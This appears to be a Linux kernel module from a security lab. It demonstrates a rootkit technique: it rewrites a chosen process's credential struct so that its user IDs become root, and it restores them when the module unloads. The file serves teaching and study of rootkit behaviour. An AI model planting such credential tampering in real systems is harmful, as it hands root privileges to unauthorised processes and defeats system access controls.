// SPDX-License-Identifier: GPL-2.0-only
/*
 * Makes a process root by writing to its credentials, as rootkits do on a signal or a magic word.
 */
#include "lab.h"

#include <linux/cred.h>
#include <linux/pid.h>

static int pid;
module_param(pid, int, 0444);

static struct cred *cred;
static struct cred theirs;

static int __init setuid_lab_init(void)
{
	struct task_struct *task = pid_task(find_get_pid(pid), PIDTYPE_TGID);

	if (!task)
		return -ESRCH;
	cred = (struct cred *)task->real_cred;
	theirs = *cred;
	cred->uid = cred->euid = cred->suid = cred->fsuid = GLOBAL_ROOT_UID;
	return 0;
}

static void __exit setuid_lab_exit(void)
{
	cred->uid = theirs.uid;
	cred->euid = theirs.euid;
	cred->suid = theirs.suid;
	cred->fsuid = theirs.fsuid;
}
module_init(setuid_lab_init);
module_exit(setuid_lab_exit);
